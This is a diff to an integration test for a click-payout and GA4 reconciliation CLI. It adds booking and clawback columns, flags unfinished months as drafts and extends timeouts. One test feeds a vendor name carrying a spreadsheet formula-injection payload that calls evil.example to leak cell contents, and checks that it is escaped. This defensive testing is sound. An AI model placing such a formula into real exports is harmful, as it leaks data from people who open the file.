@@ -14,6 +14,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { dynamodb } from '../support/clients.ts';
 import type { TableNames } from '../../adapters/provision.ts';
 import { rollupKey } from '../../adapters/rollup-items.ts';
+import { businessDay } from '../../core/business-day.ts';
 import type { ClickEvent } from '../../core/click-event.ts';
 import { toExportLine } from '../../core/export-record.ts';
 import { freePort } from '../../local/free-port.ts';
@@ -34,7 +35,7 @@ const rules = {
     solare: { rateCents: 125 },
     puesto: { rateCents: 300, monthlyCapCents: 500 },
     boardbrew: { rateCents: 40, minimumPayoutCents: 100 },
-    smallgoods: { rateCents: 50 },
+    smallgoods: { rateCents: 50, name: 'Small Goods' },
   },
 };
 
@@ -51,7 +52,8 @@ function files(dir: string): Record<string, string> {
   return out;
 }
 
-describe('payouts and GA4 reconciliation from exports written through the local Firehose', () => {
+// Many CLI processes per test: slow on a loaded machine, so a generous per-test budget.
+describe('payouts and GA4 reconciliation from exports written through the local Firehose', { timeout: 180_000 }, () => {
   let tables: TableNames;
   let root: string;
   const ev: Record<string, ClickEvent> = {};
@@ -100,7 +102,9 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     writeFileSync(at('rules.json'), JSON.stringify(rules, null, 2));
   });
 
-  const payouts = (...args: string[]) => reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', root, ...args]);
+  // Finance pays from the export alone: every run but --check-rollups gets a DynamoDB endpoint nothing listens on.
+  const DEAD = { DYNAMODB_ENDPOINT: 'http://127.0.0.1:9' };
+  const payouts = (...args: string[]) => reftrack(tables, ['payouts', '--rules', at('rules.json'), '--exports', root, ...args], args.includes('--check-rollups') ? {} : DEAD);
 
   it('pays hand-computed amounts: rate, cap, minimum carried forward, duplicate deliveries dropped', async () => {
     const run = await payouts('--month', '2026-11', '--out', at('nov'));
@@ -111,11 +115,11 @@ describe('payouts and GA4 reconciliation from exports written through the local 
       'statements/boardbrew.html', 'statements/puesto.html', 'statements/smallgoods.html', 'statements/solare.html', 'summary.json',
     ]);
     expect(out['statements.csv']!.split('\n')).toEqual([
-      'vendor,name,month,clicks,bot_clicks,internal_clicks,duplicate_visitor_clicks,qualified_clicks,rate,earned,monthly_cap,cap_applied,carried_in,minimum_payout,amount,carried_forward,currency',
-      'boardbrew,Boardbrew,2026-11,2,0,0,0,2,0.40,0.80,,false,0.00,1.00,0.00,0.80,USD',
-      'puesto,Puesto,2026-11,3,0,0,0,3,3.00,9.00,5.00,true,0.00,0.00,5.00,0.00,USD',
-      'smallgoods,Small Goods,2026-11,0,0,0,0,0,0.50,0.00,,false,0.00,0.00,0.00,0.00,USD',
-      'solare,Solare,2026-11,7,2,1,1,3,1.25,3.75,,false,0.00,0.00,3.75,0.00,USD',
+      'vendor,name,month,clicks,bot_clicks,internal_clicks,duplicate_visitor_clicks,qualified_clicks,rate,earned,monthly_cap,cap_applied,bookings,booking_value,commission,clawback,carried_in,minimum_payout,amount,carried_forward,currency',
+      'boardbrew,Boardbrew,2026-11,2,0,0,0,2,0.40,0.80,,false,0,0.00,0.00,0.00,0.00,1.00,0.00,0.80,USD',
+      'puesto,Puesto,2026-11,3,0,0,0,3,3.00,9.00,5.00,true,0,0.00,0.00,0.00,0.00,0.00,5.00,0.00,USD',
+      'smallgoods,Small Goods,2026-11,0,0,0,0,0,0.50,0.00,,false,0,0.00,0.00,0.00,0.00,0.00,0.00,0.00,USD',
+      'solare,Solare,2026-11,7,2,1,1,3,1.25,3.75,,false,0,0.00,0.00,0.00,0.00,0.00,3.75,0.00,USD',
       '',
     ]);
     expect(out['audit/solare.csv']).toBe(`click_id,day,ts\n${ev.a1!.clickId},2026-11-03,${ev.a1!.ts}\n${ev.a3!.clickId},2026-11-04,${ev.a3!.ts}\n${ev.d2!.clickId},2026-11-05,${ev.d2!.ts}\n`);
@@ -144,7 +148,15 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     const dec = await payouts('--month', '2026-12', '--out', at('dec'), '--carry-in', at('nov/summary.json'));
     expect(dec.code, dec.stderr).toBe(0);
     // boardbrew: 1 x 0.40 + 0.80 carried in = 1.20, over the minimum: paid.
-    expect(readFileSync(at('dec/statements.csv'), 'utf8')).toContain('boardbrew,Boardbrew,2026-12,1,0,0,0,1,0.40,0.40,,false,0.80,1.00,1.20,0.00,USD');
+    expect(readFileSync(at('dec/statements.csv'), 'utf8')).toContain('boardbrew,Boardbrew,2026-12,1,0,0,0,1,0.40,0.40,,false,0,0.00,0.00,0.00,0.80,1.00,1.20,0.00,USD');
+    // December is a draft until it has ended in the business time zone.
+    const decEnded = businessDay(new Date(), 'America/Los_Angeles') > '2026-12-31';
+    expect(JSON.parse(readFileSync(at('dec/summary.json'), 'utf8'))).toMatchObject({ complete: decEnded, monthEnded: decEnded });
+    if (!decEnded) {
+      expect(dec.stdout).toMatch(/DRAFT \(month not ended\)/);
+      expect(dec.stderr).toMatch(/2026-12 has not ended yet .*: the statements are a draft, not for payment/);
+      expect(readFileSync(at('dec/statements/boardbrew.html'), 'utf8')).toContain('Draft, not for payment:</strong> 2026-12 has not ended yet');
+    }
     const wrong = await payouts('--month', '2026-12', '--out', at('dec2'), '--carry-in', at('dec/summary.json'));
     expect(wrong.code).toBe(2);
     expect(wrong.stderr).toMatch(/is the summary of 2026-12; the carry-in for 2026-12 must be 2026-11's/);
@@ -202,7 +214,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
     expect(run.code, run.stderr).toBe(0);
     const row = readFileSync(at('hostile/statements.csv'), 'utf8').split('\n').find((l) => l.startsWith('smallgoods,'))!;
     // Quoted per RFC 4180 and prefixed with an apostrophe: a spreadsheet shows it, never runs it.
-    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,1,0.50,0.50,,false,0.00,0.00,0.50,0.00,USD`);
+    expect(row).toBe(`smallgoods,"'=HYPERLINK(""https://evil.example/?leak=""&A2,""x"")",2026-11,1,0,0,0,1,0.50,0.50,,false,0,0.00,0.00,0.00,0.00,0.00,0.50,0.00,USD`);
     expect(readFileSync(at('hostile/statements/smallgoods.html'), 'utf8')).toContain('=HYPERLINK(&quot;https://evil.example/?leak=&quot;&amp;A2,&quot;x&quot;)');
 
     // The same vendor renamed with an ANSI clear-screen, a C1 CSI and a right-to-left override.
@@ -263,17 +275,21 @@ describe('payouts and GA4 reconciliation from exports written through the local 
       [['--month', '2026-13', '--rules', at('rules.json'), '--out', at('x')], /--month: must be a month/],
       [['--month', '2026-11', '--out', at('x')], /--rules/],
       [['--month', '2026-11', '--rules', at('missing.json'), '--out', at('x')], /--rules: cannot read .*ENOENT/],
-      [['--month', '2026-11', '--rules', at('typo.json'), '--out', at('x')], /unknown vendor "solar"/],
       [['--month', '2026-11', '--rules', at('float.json'), '--out', at('x')], /rateCents: must be a whole number of cents/],
       [['--month', '2026-11', '--rules', at('rules.json'), '--out', at('x'), '--bogus'], /bogus/],
     ];
+    // A mistyped code in the rules: the real vendor has clicks and no rule (exit 1), and the stray rule is named.
+    const typo = await reftrack(tables, ['payouts', '--exports', root, '--month', '2026-11', '--rules', at('typo.json'), '--out', at('typo')], DEAD);
+    expect(typo.code).toBe(1);
+    expect(typo.stderr).toMatch(/vendor solare has 7 clicks \(3 qualified\) in 2026-11 but no rule/);
+    expect(typo.stderr).toMatch(/the rule for "solar" matches no click in 2026-11 \(a mistyped code\? vendors with clicks: boardbrew, puesto, solare\)/);
     for (const [args, message] of cases) {
-      const r = await reftrack(tables, ['payouts', '--exports', root, ...args]);
+      const r = await reftrack(tables, ['payouts', '--exports', root, ...args], DEAD);
       expect(r.code, args.join(' ')).toBe(2);
       expect(r.stderr, args.join(' ')).toMatch(message);
       expect(r.stderr).toMatch(/usage: reftrack payouts/);
     }
-  });
+  }, 180_000);
 
   it('reconcile ga4 matches sessions to clicks by ref_cid, flags likely reasons, reports a bad row (exit 1)', async () => {
     const ga4 = [
@@ -296,7 +312,7 @@ describe('payouts and GA4 reconciliation from exports written through the local 
       '',
     ].join('\n');
     writeFileSync(at('ga4-export.csv'), ga4);
-    const r = await reftrack(tables, ['reconcile', 'ga4', '--ga4', at('ga4-export.csv'), '--from', '2026-11-01', '--to', '2026-11-30', '--exports', root, '--out', at('reconcile.csv')]);
+    const r = await reftrack(tables, ['reconcile', 'ga4', '--ga4', at('ga4-export.csv'), '--from', '2026-11-01', '--to', '2026-11-30', '--exports', root, '--out', at('reconcile.csv')], DEAD);
     expect(r.code, r.stderr).toBe(1);
     expect(r.stderr).toContain(`${at('ga4-export.csv')}:16: date "2026-11-21" is not YYYYMMDD`);
     const csv = readFileSync(at('reconcile.csv'), 'utf8').trim().split('\n');
@@ -326,5 +342,5 @@ describe('payouts and GA4 reconciliation from exports written through the local 
       expect(bad.code, args.join(' ')).toBe(2);
       expect(bad.stderr).toMatch(/usage: reftrack reconcile ga4/);
     }
-  });
+  }, 180_000);
 });
